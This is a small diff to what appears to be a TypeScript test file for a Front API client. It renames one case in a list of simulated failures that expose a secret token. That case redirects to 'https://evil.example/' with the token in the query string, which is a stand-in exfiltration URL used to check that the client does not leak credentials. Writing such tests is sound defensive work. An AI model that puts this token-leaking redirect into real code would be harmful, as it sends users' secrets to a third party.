@@ -93,7 +93,7 @@ const DISASTERS: [string, (request: Request) => Response | Promise<Response>][] 
   ["an error of Front's that repeats it", () => Response.json(errorBody(`Unknown token ${TOKEN}`), { status: 401 })],
   ["details that repeat it", () => Response.json({ _error: { details: [TOKEN] } }, { status: 400 })],
   [
-    "a way elsewhere with it",
+    "a redirect with it",
     ({ url }) =>
       url.includes("evil") ? new Response() : led(`https://evil.example/?token=${encodeURIComponent(TOKEN)}`),
   ],
